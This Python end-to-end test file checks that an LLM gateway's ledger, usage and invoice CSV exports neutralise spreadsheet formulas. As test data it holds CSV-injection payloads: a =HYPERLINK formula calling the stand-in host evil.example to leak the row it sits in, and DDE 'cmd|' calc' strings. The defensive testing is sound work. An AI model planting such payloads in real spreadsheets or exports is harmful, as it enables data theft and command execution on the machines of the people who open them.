"""Promise: every CSV export neutralises formulas (OWASP's CSV-injection rule).

A client chooses its `user` and its tags; an admin (or an attacker with a leaked admin
token) chooses team, key and model names. Any of them can start with `=`, `+`, `-`,
`@`, a tab or a carriage return, which a spreadsheet opening the export would run as a
formula (`=HYPERLINK(...)` exfiltrates the row it sits in). Every export, parsed with
the csv module, must show such a cell with a leading `'`, and our own numeric columns
(money, counts) must stay numbers.

The traffic goes through the real /v1/chat/completions with the openai SDK; the exports
are read from the admin API and from the dashboard over real HTTP.
"""

from __future__ import annotations

import csv
import io
import uuid
from datetime import timedelta
from decimal import Decimal
from typing import Any

import openai
import pytest
from django.utils import timezone

from tests.support.dashboard import dashboard_login
from tests.support.waiting import wait_for

pytestmark = pytest.mark.e2e

PASSWORD = "correct horse battery staple"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak=1","click")'
# One payload per character OWASP lists; each is sent as `user` and as a tag.
PAYLOADS = [HYPERLINK, "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3", "\t=1", "\r=1"]
TAGS = [HYPERLINK, "+cmd", "@SUM(1)", "-2+3"]  # tags are stripped of whitespace on the way in


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _inert(cell: str) -> bool:
    return not cell or cell[0] not in "=+-@\t\r"


def _assert_neutralised(where: str, cells: list[str], expected: list[str]) -> None:
    """Every expected payload appears, prefixed with `'`; no cell can start a formula."""
    for cell in cells:
        assert _inert(cell), f"{where}: a cell a spreadsheet would evaluate: {cell!r}"
    for payload in expected:
        assert any(cell == "'" + payload or cell.startswith("'" + payload) for cell in cells), (
            f"{where}: {payload!r} is missing or not prefixed with a quote; cells: {cells!r}"
        )


@pytest.fixture
def formula_world(live_gateway: Any, make_model: Any, make_team: Any, make_key: Any) -> Any:
    from django.contrib.auth.models import User

    from gateway import services

    suffix = uuid.uuid4().hex[:6]
    # A discount (negative markup) gives the invoice a negative amount of our own.
    team = make_team(
        name=f'=HYPERLINK("http://evil.example/t","{suffix}")', markup_percent=Decimal("-10")
    )
    model = make_model(name=f"-1+1-{suffix}")
    created = make_key(team=team, name=f"@SUM(1)-{suffix}")
    client = openai.OpenAI(base_url=live_gateway.v1, api_key=created.secret, max_retries=0)
    for payload in PAYLOADS:
        client.chat.completions.create(
            model=model.name,
            messages=[{"role": "user", "content": "hi"}],
            user=payload,
            extra_body={"metadata": {"tags": TAGS}},
        )
    from billing.models import LedgerEntry

    wait_for(
        lambda: LedgerEntry.objects.filter(team_id=team.id).count() >= len(PAYLOADS),
        30,
        what="the ledger rows of the formula requests",
    )
    root = User.objects.create_superuser(f"root-{suffix}", "root@example.com", PASSWORD)
    return {"team": team, "model": model, "key": created, "root": root, "services": services}


def test_the_admin_ledger_csv_prefixes_formulas_from_users_tags_and_names(
    live_gateway: Any, formula_world: Any
) -> None:
    team = formula_world["team"]
    with live_gateway.admin() as admin:
        response = admin.get("/ledger", params={"team_id": team.id, "format": "csv"})
    assert response.status_code == 200, response.text
    rows = _rows(response.text)
    assert len(rows) == len(PAYLOADS)
    _assert_neutralised("ledger end_user", [r["end_user"] for r in rows], PAYLOADS)
    _assert_neutralised("ledger tags", [r["tags"] for r in rows], [TAGS[0]])
    _assert_neutralised("ledger model", [r["model"] for r in rows], [formula_world["model"].name])
    # Our own numbers stay numbers: money and counts are not prefixed.
    for row in rows:
        assert Decimal(row["charged_cost_usd"]) >= 0 and int(row["prompt_tokens"]) > 0


def test_the_dashboard_usage_csv_prefixes_formulas_in_every_grouping(
    live_gateway: Any, formula_world: Any
) -> None:
    team, root = formula_world["team"], formula_world["root"]
    client = dashboard_login(live_gateway.url, root.username, PASSWORD)
    try:
        exports = {
            group: client.get("/usage/export.csv", params={"group_by": group, "team": str(team.id)})
            for group in ("tag", "team", "key", "model")
        }
    finally:
        client.close()
    expected = {
        "tag": TAGS,
        "team": [team.name],
        "key": [formula_world["key"].key.name],
        "model": [formula_world["model"].name],
    }
    for group, response in exports.items():
        assert response.status_code == 200, (group, response.status_code, response.text[:300])
        rows = _rows(response.text)
        assert rows, group
        _assert_neutralised(f"usage by {group}", [r["group"] for r in rows], expected[group])
        assert sum(int(r["requests"]) for r in rows) >= len(PAYLOADS)
        assert all(Decimal(r["spend_usd"]) >= 0 for r in rows)


def test_every_invoice_csv_prefixes_formulas_in_model_names(
    live_gateway: Any, formula_world: Any
) -> None:
    """Admin API and dashboard invoice CSVs; a discount makes a negative amount, still a number."""
    from billing import invoices
    from billing.models import LedgerEntry

    team, root = formula_world["team"], formula_world["root"]
    last = invoices.month_containing(team.timezone, timezone.now()).start - timedelta(days=1)
    month = invoices.month_containing(team.timezone, last)
    # The requests happened now; move them into last month, so that month's invoice has them.
    LedgerEntry.objects.filter(team_id=team.id).update(
        started_at=month.start + timedelta(days=2),
        ended_at=month.start + timedelta(days=2, seconds=1),
        created_at=month.start + timedelta(days=2, seconds=1),
    )
    type(team).objects.filter(id=team.id).update(created_at=month.start)
    invoice = invoices.invoice_draft(team_id=team.id, year=month.year, month=month.month)
    assert invoice.lines.exists()

    with live_gateway.admin() as admin:
        api = admin.get(f"/invoices/{invoice.id}/csv")
    client = dashboard_login(live_gateway.url, root.username, PASSWORD)
    try:
        page = client.get(f"/invoices/{invoice.id}/invoice.csv")
    finally:
        client.close()

    for where, response in (("api invoice", api), ("dashboard invoice", page)):
        assert response.status_code == 200, (where, response.status_code, response.text[:300])
        rows = _rows(response.text)
        model = formula_world["model"].name
        _assert_neutralised(f"{where} model", [r["model"] for r in rows], [model])
        for column in ("description", "provider", "kind", "invoice_number", "period"):
            for row in rows:
                assert _inert(row[column]), (where, column, row[column])
        # The discount is a negative amount of our own: a number, not a quoted string.
        [discount] = [r for r in rows if r["kind"] == "discount"]
        assert Decimal(discount["amount_usd"]) < 0 and discount["amount_usd"].startswith("-")


def test_no_export_writes_csv_around_the_safe_writer() -> None:
    """One place for the rule: product code writes CSV only through billing.csv_export."""
    from tests.support.live import ROOT

    offenders = [
        str(path.relative_to(ROOT))
        for app in ("accounts", "billing", "config", "dashboard", "gateway")
        if (ROOT / app).is_dir()
        for path in (ROOT / app).rglob("*.py")
        if path.name != "csv_export.py"
        and any(call in path.read_text() for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert not offenders, f"CSV written without billing.csv_export.safe_writer: {offenders}"
